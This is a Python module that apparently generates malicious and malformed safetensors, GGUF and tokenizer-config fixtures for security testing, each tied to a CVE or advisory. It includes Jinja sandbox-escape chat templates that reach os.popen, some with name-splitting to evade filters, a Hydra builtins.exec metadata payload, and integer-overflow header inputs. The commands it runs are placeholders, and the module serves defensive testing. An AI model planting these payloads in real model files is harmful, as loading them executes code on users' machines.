"""safetensors and GGUF: headers that do not hold, and what rides in their metadata."""

import json
import struct

from .assemble import HARMLESS_COMMAND, HARMLESS_EXPRESSION

BITS = "https://huggingface.co/docs/safetensors/index#format"
GGUF = "https://www.databricks.com/blog/ggml-gguf-file-format-vulnerabilities"
TEMPLATE = "CVE-2024-34359"


def safetensors(header, data=b"", length=None):
    content = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(content) if length is None else length) + content + data


def weight(start, end, shape=(4,), kind="F32"):
    return {"dtype": kind, "shape": list(shape), "data_offsets": [start, end]}


def text(value):
    content = value.encode()
    return struct.pack("<Q", len(content)) + content


def pair(key, value):
    return text(key) + struct.pack("<I", 8) + text(value)


def gguf(pairs=(), tensors=b"", count=0, keys=None, data=b""):
    head = b"GGUF" + struct.pack("<IQQ", 3, count, len(pairs) if keys is None else keys)
    return head + b"".join(pairs) + tensors + data


def tensor(label, shape, offset):
    return text(label) + struct.pack("<I", len(shape)) + b"".join(struct.pack("<Q", each) for each in shape) + struct.pack("<IQ", 0, offset)


ARCHITECTURE = pair("general.architecture", "llama")
INJECTED = "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('" + HARMLESS_COMMAND + "').read() }}{% endif %}{% endfor %}"
HIDDEN = "{% set n = '__cla' ~ 'ss__' %}{{ messages|attr(n)|attr('__ba' + 'se__')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"
CYCLER = "{{ cycler.__init__.__globals__.os.popen('" + HARMLESS_COMMAND + "').read() }}"
ITEMS = "{{ (lipsum['__glo''bals__'])['os']['popen']('" + HARMLESS_COMMAND + "') }}"


def templates():
    yield "gguf-template.gguf", gguf([ARCHITECTURE, pair("tokenizer.chat_template", INJECTED)]), "a chat template that leaves its sandbox", TEMPLATE
    yield "gguf-template-cycler.gguf", gguf([ARCHITECTURE, pair("tokenizer.chat_template", CYCLER)]), "a chat template by way of cycler", TEMPLATE
    yield "gguf-template-hidden.gguf", gguf([ARCHITECTURE, pair("tokenizer.chat_template", HIDDEN)]), "a chat template that spells its names in parts", "CVE-2026-5760"
    yield "gguf-template-second.gguf", gguf([ARCHITECTURE, pair("tokenizer.chat_template", "{{ messages[0].content }}"), pair("tokenizer.chat_template.tool_use", CYCLER)]), "the second of two chat templates", TEMPLATE
    usual = {"bos_token": "<s>", "eos_token": "</s>", "tokenizer_class": "LlamaTokenizer"}
    yield "template-config/tokenizer_config.json", json.dumps({**usual, "chat_template": INJECTED}).encode(), "a chat template in the tokenizer's configuration", "CVE-2026-5760"
    listed = [{"name": "default", "template": "{{ messages[0].content }}"}, {"name": "tool_use", "template": ITEMS}]
    yield "template-list/tokenizer_config.json", json.dumps({**usual, "chat_template": listed}).encode(), "the second of several chat templates", "CVE-2026-5760"
    yield "template-file/chat_template.jinja", ("{# usual #}\n" + CYCLER + "\n").encode(), "a chat template in a file of its own", "CVE-2026-5760"


def gguf_headers():
    yield "gguf-many-keys.gguf", gguf([ARCHITECTURE], keys=1 << 62), "more keys than any file has", "CVE-2024-23605"
    yield "gguf-many-tensors.gguf", gguf([ARCHITECTURE], count=1 << 61), "more tensors than any file has", "CVE-2024-21836"
    yield "gguf-long-string.gguf", gguf([struct.pack("<Q", (1 << 64) - 1) + b"general.name"]), "a string whose length overflows", "CVE-2024-23496"
    yield "gguf-long-array.gguf", gguf([text("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 1 << 61)]), "an array whose length overflows", "CVE-2024-21825"
    nested = text("x") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 2000 + struct.pack("<IQ", 0, 0)
    yield "gguf-deep-array.gguf", gguf([nested]), "arrays within arrays by the thousand", "CVE-2024-21825"
    yield "gguf-dimensions.gguf", gguf([ARCHITECTURE], tensor("w", [1 << 40, 1 << 40], 0), 1, data=bytes(64)), "dimensions whose product overflows", "CVE-2024-21802"
    yield "gguf-many-dimensions.gguf", gguf([ARCHITECTURE], text("w") + struct.pack("<I", 1 << 30), 1), "a tensor with more dimensions than there may be", "CVE-2024-21802"
    yield "gguf-offset.gguf", gguf([ARCHITECTURE], tensor("w", [4], 1 << 50), 1, data=bytes(64)), "a tensor behind the end of the file", GGUF
    yield "gguf-alignment.gguf", gguf([text("general.alignment") + struct.pack("<II", 4, 0)], tensor("w", [4], 0), 1, data=bytes(64)), "an alignment of zero", GGUF
    yield "gguf-bad-kind.gguf", gguf([text("general.name") + struct.pack("<I", 77)]), "a kind of value that does not exist", GGUF
    yield "gguf-cut.gguf", gguf([ARCHITECTURE])[:30], "breaks off within the header", GGUF


def safetensors_headers():
    good = weight(0, 16)
    yield "safetensors-length.safetensors", safetensors({"w": good}, bytes(16), 1 << 40), "a header longer than the file", BITS
    yield "safetensors-length-overflow.safetensors", safetensors({"w": good}, bytes(16), (1 << 64) - 1), "a header whose length overflows", BITS
    yield "safetensors-overlap.safetensors", safetensors({"a": weight(0, 16), "b": weight(8, 24)}, bytes(24)), "tensors that overlap", BITS
    yield "safetensors-gap.safetensors", safetensors({"a": weight(0, 16), "b": weight(32, 48)}, bytes(48)), "a hole that could hold anything", BITS
    yield "safetensors-past-end.safetensors", safetensors({"w": weight(0, 1 << 40, (1 << 38,))}, bytes(16)), "a tensor behind the end of the file", BITS
    yield "safetensors-shape.safetensors", safetensors({"w": weight(0, 16, (1 << 32, 1 << 32))}, bytes(16)), "a shape whose product overflows", BITS
    yield "safetensors-negative.safetensors", safetensors({"w": weight(-16, 0)}, bytes(16)), "an offset below zero", BITS
    yield "safetensors-backward.safetensors", safetensors({"w": weight(16, 0)}, bytes(16)), "an end before its start", BITS
    double = b'{"w":' + json.dumps(good).encode() + b',"w":' + json.dumps(weight(0, 8, (2,))).encode() + b"}"
    yield "safetensors-key-twice.safetensors", safetensors(double, bytes(16)), "one name twice, where readers disagree", "https://github.com/trailofbits/publications/blob/master/reviews/2023-03-eleutherai-huggingface-safetensors-securityreview.pdf"
    yield "safetensors-tail.safetensors", safetensors({"w": good}, bytes(16) + b"PK\x03\x04" + bytes(64)), "more bytes than the header tells of", "https://github.com/trailofbits/publications/blob/master/reviews/2023-03-eleutherai-huggingface-safetensors-securityreview.pdf"
    yield "safetensors-kind.safetensors", safetensors({"w": weight(0, 16, (4,), "O")}, bytes(16)), "a kind of number that does not exist", BITS
    yield "safetensors-no-json.safetensors", safetensors(b"[" * 4000, bytes(16)), "a header of nested brackets", BITS
    target = {"__metadata__": {"config": json.dumps({"_target_": "builtins.exec", "_args_": [HARMLESS_EXPRESSION]})}, "w": good}
    yield "safetensors-target.safetensors", safetensors(target, bytes(16)), "metadata that Hydra would call", "https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/"
    template = {"__metadata__": {"chat_template": INJECTED}, "w": good}
    yield "safetensors-template.safetensors", safetensors(template, bytes(16)), "metadata with a chat template that leaves its sandbox", "CVE-2026-5760"


def items():
    for part in (templates, gguf_headers, safetensors_headers):
        yield from part()
